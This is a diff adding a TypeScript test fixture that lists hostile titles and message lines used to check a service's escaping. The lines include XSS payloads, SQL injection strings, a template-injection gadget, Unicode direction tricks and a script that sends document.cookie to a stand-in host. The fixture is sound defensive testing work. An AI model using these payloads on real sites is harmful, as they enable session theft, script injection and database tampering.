@@ -1,0 +1,36 @@
+/**
+ * Text that attacks whoever shows it: markup that would run or fetch, Markdown that hides a link, direction tricks,
+ * control characters. All of it is plain data to this service. The hosts are reserved names that resolve nowhere.
+ */
+export const hostileTitles = [
+  '<script>alert("title")</script> Sync with {company}',
+  '<img src=x onerror=alert(1)> {company}',
+  '{company} "><svg onload=alert(1)>',
+  'Invoice \u202Efdp.exe\u202C for {company}',
+  "'; DROP TABLE engagements; -- {company}",
+  '[{company}](javascript:alert(1))',
+  '{{constructor.constructor("alert(1)")()}} {company}',
+  '=HYPERLINK("http://evil.invalid","{company}")',
+] as const;
+
+export const hostileLines = [
+  '<script>fetch("http://evil.invalid/?c=" + document.cookie)</script>',
+  'Then I typed <b onmouseover="alert(1)">bold</b> into the field and it went bold.',
+  '<iframe src="http://evil.invalid/frame"></iframe> That is what the mail contained.',
+  '<img src="http://evil.invalid/pixel.gif" width="1" height="1"> Did you see the picture?',
+  '![tracking](http://evil.invalid/pixel.png) and a [harmless link](javascript:alert(document.domain)).',
+  '<style>*{display:none}</style> Nothing to see here.',
+  '<a href="data:text/html,<script>alert(1)</script>">Click me</a>, it said.',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  'An ampersand & a less-than < and a greater-than > walk into a bar.',
+  'The file was called \u202Egpj.exe\u202C, and someone opened it.',
+  'Zero\u200Bwidth\u200Bspaces and a byte order mark \uFEFF in the middle.',
+  'Z̷̢͓a̶̰͝l̵̖̈g̶͉͗o̴͙͒ text came out of the old printer.',
+  'A null character \u0000 and a bell \u0007, straight from the serial port.',
+  '<details open ontoggle=alert(1)><summary>Open me</summary></details>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'Robert"); DROP TABLE contacts;-- is a real driver, we checked.',
+  '</li></ul></div></body></html> and everything after it.',
+  '&lt;script&gt;alert("already escaped once")&lt;/script&gt;',
+  'Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.',
+] as const;
